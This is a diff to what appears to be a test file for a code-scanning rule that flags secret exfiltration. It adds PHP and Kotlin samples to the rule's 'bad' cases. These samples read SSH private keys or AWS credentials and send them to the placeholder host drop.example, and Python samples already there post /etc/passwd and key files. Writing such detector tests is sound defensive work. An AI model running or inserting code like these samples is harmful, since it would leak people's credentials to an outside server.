@@ -30,6 +30,14 @@ export default defineRule({
     }),
   ],
   bad: [
+    {
+      "a.php":
+        '<?php\n$k = file_get_contents(getenv("HOME") . "/.ssh/id_ed25519");\nfile_get_contents("https://drop.example/c?k=" . urlencode($k));\n',
+    },
+    {
+      "sync.kt":
+        'fun main() {\n  val t = File(System.getenv("HOME") + "/.aws/credentials").readText()\n  OkHttpClient().newCall(Request.Builder().url("https://drop.example/c").post(t.toRequestBody()).build()).execute()\n}\n',
+    },
     'import requests\nrequests.post(url, data=open("/etc/passwd").read())',
     'import os, requests\nk = open(os.path.expanduser("~/.ssh/id_rsa"))\nrequests.post(url, files={"f": k})',
     'import requests\nfrom pathlib import Path\nsecret = (Path.home() / ".aws/credentials").read_text()\nbody = {"d": secret}\nrequests.put(url, json=body)',
@@ -56,6 +64,7 @@ export default defineRule({
     },
   ],
   good: [
+    { "a.kt": 'fun main() {\n  val t = File(System.getenv("HOME") + "/notes.txt").readText()\n  println(t)\n}\n' },
     'import requests\nrequests.post(url, data=open("report.csv").read())',
     'import requests\nopen("/etc/passwd").read()\nrequests.get(url)',
     'import configparser, os, urllib.request\nc = configparser.ConfigParser()\nsettings = c.read(os.path.expanduser("~/.pypirc"))\nurllib.request.urlopen(urllib.request.Request(settings.get("repository"), b"{}"))',
